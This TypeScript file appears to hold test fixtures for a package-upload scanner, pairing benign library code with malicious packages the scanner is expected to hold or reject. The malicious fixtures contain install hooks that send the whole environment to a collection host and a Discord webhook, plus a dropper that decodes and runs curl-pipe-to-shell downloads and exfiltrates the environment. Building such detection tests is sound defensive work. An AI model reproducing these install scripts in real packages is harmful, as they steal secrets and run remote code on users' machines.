// Uploads with known gate outcomes: ordinary library code (published), stealers and droppers (held or rejected).

export interface Fixture {
  files: Record<string, string>
  manifest: Record<string, unknown>
}

/** Ordinary library code: a child process with the environment, a request with a token, no install script. */
export const BENIGN: Fixture = {
  files: {
    'index.js': `const { spawn } = require('child_process')
const https = require('https')
function build(cmd) { return spawn(cmd, [], { env: process.env, stdio: 'inherit' }) }
function repos(user) { return https.request({ hostname: 'api.github.com', path: '/users/' + user + '/repos', headers: { authorization: 'token ' + process.env.GITHUB_TOKEN } }) }
module.exports = { build, repos }
`,
    'README.md': 'Install the CLI with `curl -s https://get.example.com/install.sh | sh`.\n',
  },
  manifest: {},
}

/** A postinstall script that posts the whole environment to a collection host: held for review. */
export const ENV_STEALER: Fixture = {
  files: {
    'setup.js': `const https = require('https')
const req = https.request({ hostname: 'collect.example.com', path: '/e', method: 'POST' })
req.write(JSON.stringify(process.env))
req.end()
`,
  },
  manifest: { scripts: { postinstall: 'node setup.js' } },
}

/** The same to a Discord webhook: two critical-to-high rules at install time, past the reject threshold. */
export const WEBHOOK_STEALER: Fixture = {
  files: {
    'setup.js': `const https = require('https')
const req = https.request('https://discord.com/api/webhooks/123456/abcdef', { method: 'POST' })
req.write(JSON.stringify(process.env))
req.end()
`,
  },
  manifest: { scripts: { postinstall: 'node setup.js' } },
}

/** A dropper: decodes and runs a download command, pipes curl into sh, and steals the environment. */
export const DROPPER: Fixture = {
  files: {
    'x.js': `const cp = require('child_process')
cp.exec(Buffer.from('Y3VybCBodHRwOi8vZ2V0LmV4YW1wbGUuY29tL2Euc2ggfCBzaA==', 'base64').toString())
cp.exec('curl -s http://get.example.com/b.sh | sh')
require('https').request('https://x.oastify.com/').end(JSON.stringify(process.env))
`,
  },
  manifest: { scripts: { preinstall: 'node x.js' } },
}
